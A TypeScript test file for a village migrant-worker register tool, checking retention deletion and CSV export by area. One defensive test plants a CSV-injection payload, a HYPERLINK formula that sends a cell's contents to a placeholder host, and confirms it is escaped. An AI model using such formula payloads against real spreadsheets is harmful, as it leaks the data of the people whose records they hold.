import { afterAll, describe, expect, it } from 'vitest';
import { exportRegister, scopeOf } from '../../src/cli/register-cli.js';
import { retentionCommand } from '../../src/cli/retention.js';
import { RedisRegisterStore } from '../../src/reports/redis-register-store.js';
import type { RegisterRecord } from '../../src/reports/register-store.js';
import { registerKeys, registerRecorderId } from '../../src/storage/keys.js';
import { testVillages } from '../helpers/engine.js';
import { testRedis } from '../helpers/redis.js';
import { SUMBERPUCUNG, TERNYANG } from '../helpers/report-script.js';
import { NOW, buffer, reportsOnRedis } from './reports-fixture.js';

const parts = testRedis();
afterAll(() => parts.cleanup());
let n = 0;
const freshStore = () => new RedisRegisterStore(parts.redis, registerKeys(`${parts.prefix}${n++}:`));

const entry = (id: string, over: Partial<RegisterRecord> = {}): RegisterRecord => ({
  id,
  recorder: registerRecorderId(`telegram:${id}`),
  who: `W-${id}`,
  village: TERNYANG,
  relation: 'family',
  departure: { country: 'Taiwan', agency: 'PT Maju', departed: '2022-01', contractEnd: '2024-01' },
  contact: '+62 812 3456 7890',
  createdAt: '2022-01-05T00:00:00.000Z',
  updatedAt: '2022-01-05T00:00:00.000Z',
  anchor: '2024-01',
  ...over,
});

describe('register retention (reports retention)', () => {
  const reports = reportsOnRedis();
  afterAll(() => reports.cleanup());

  it('deletes entries more than the set months after their anchor month, on a dry run only counts, and is idempotent', async () => {
    // NOW is in December 2026: with 24 months, anchors before December 2024 are due.
    expect(NOW.toISOString().slice(0, 7)).toBe('2026-12');
    const store = freshStore();
    await store.save(entry('old', { anchor: '2024-01' }));
    await store.save(entry('edge', { anchor: '2024-11' }));
    await store.save(entry('kept', { anchor: '2024-12' }));
    await store.save(entry('recent', { anchor: '2026-06' }));
    const run = async (dryRun: boolean) => {
      const out = buffer();
      await retentionCommand(reports.store, out, {
        days: 30,
        dryRun,
        now: NOW,
        register: { store, months: 24 },
      });
      return out.text();
    };
    expect(await run(true)).toContain('dry run: 2 departure/return entries more than 24 months');
    expect(await store.idsByArea('')).toHaveLength(4);
    expect(await run(false)).toContain('deleted 2 departure/return entries more than 24 months');
    expect((await store.idsByArea('')).sort()).toEqual(['kept', 'recent']);
    expect(await store.get('old')).toBeUndefined();
    expect(await store.idsByRecorder(registerRecorderId('telegram:old'))).toEqual([]);
    expect(await run(false)).toContain('deleted 0 departure/return entries');
  });
});

describe('register export (CSV)', () => {
  it('exports an area through the officers’ area check; contact ways only when asked for', async () => {
    const store = freshStore();
    await store.save(entry('a1'));
    await store.save(
      entry('a2', {
        village: SUMBERPUCUNG,
        createdAt: '2022-02-01T00:00:00.000Z',
        return: { returned: '2024-02', route: 'deported', needs: ['wages', 'health'] },
      }),
    );
    await store.save(entry('b1', { village: '32.01.01.2001' }));
    const csv = async (area: string | undefined, withContact = false) => {
      const out = buffer();
      await exportRegister({ store, villages: testVillages() }, out, {
        ...(area ? { area } : {}),
        withContact,
      });
      return out.text().trim().split('\n');
    };
    const village = await csv(TERNYANG);
    expect(village[0]).toBe(
      'id,created_at,updated_at,village_code,village_name,who,told_by,country,agency,departed,contract_end,returned,return_route,needs,contact',
    );
    expect(village.slice(1)).toEqual([
      `a1,2022-01-05T00:00:00.000Z,2022-01-05T00:00:00.000Z,${TERNYANG},Ternyang,W-a1,family,Taiwan,PT Maju,2022-01,2024-01,,,,`,
    ]);
    const district = await csv('35.07');
    expect(district).toHaveLength(3);
    expect(district[2]).toContain(',2024-02,deported,wages health,');
    expect(await csv('32')).toHaveLength(2);
    expect(await csv(undefined)).toHaveLength(4);
    // A phone number starts with '+': quoted like every cell a spreadsheet would read as a formula.
    expect((await csv(TERNYANG, true))[1]).toMatch(/,'\+62 812 3456 7890$/);
    expect(scopeOf('35.07')).toEqual({ role: 'district', area: '35.07' });
  });

  it('never lets text a villager typed run as a spreadsheet formula (CSV injection)', async () => {
    const store = freshStore();
    await store.save(
      entry('f1', {
        who: '=HYPERLINK("http://x.example/?"&A1)',
        departure: { country: '+1+1', agency: '@SUM(1)', departed: '2022-01', contractEnd: '' },
        contact: '-2+3',
      }),
    );
    const out = buffer();
    await exportRegister({ store, villages: testVillages() }, out, { withContact: true });
    const row = out.text().trim().split('\n')[1] ?? '';
    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
    expect(row).toContain(",'+1+1,'@SUM(1),");
    expect(row).toMatch(/,'-2\+3$/);
  });
});
